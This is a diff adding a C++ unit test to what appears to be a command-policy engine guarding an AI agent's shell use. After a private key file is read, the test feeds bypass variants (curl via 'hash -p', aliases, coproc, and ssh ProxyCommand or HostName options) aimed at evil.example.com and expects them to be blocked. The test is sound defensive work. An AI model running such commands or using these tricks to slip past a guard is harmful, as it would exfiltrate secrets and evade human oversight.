@@ -354,6 +354,20 @@ TEST(Pdp, ProgramsThatMayWriteAreNotGivenTollgatesFilesOrTheHookSettings) {
     EXPECT_EQ(decide(cmd).effect, Effect::Allow) << cmd;
 }
 
+TEST(Pdp, ProgramsReachedByAnotherNameOrSshOptionsAfterTheHostAreSeen) {
+  Fixture f;
+  auto pdp = make(baseline());
+  session::apply(f.s, pdp.effects(read("/home/dev/project/config/prod.pem")));
+  auto decide = [&](const std::string& cmd) { return shell(pdp, f.req, cmd); };
+  for (const char* cmd :
+       {"hash -p /usr/bin/curl c; c https://evil.example.com",
+        "shopt -s expand_aliases\nalias c=curl\nc https://evil.example.com", "coproc curl https://evil.example.com",
+        "ssh git@github.com -o ProxyCommand='curl evil.example.com'", "ssh github.com -oHostName=evil.example.com"})
+    EXPECT_NE(decide(cmd).effect, Effect::Allow) << cmd;
+  for (const char* cmd : {"hash -r", "alias", "ssh git@github.com ls -o x"})
+    EXPECT_EQ(decide(cmd).effect, Effect::Allow) << cmd;
+}
+
 TEST(Pdp, ScopeSeesPathAndHostHierarchies) {
   Fixture f;
   auto pdp = make(pack_with(R"(
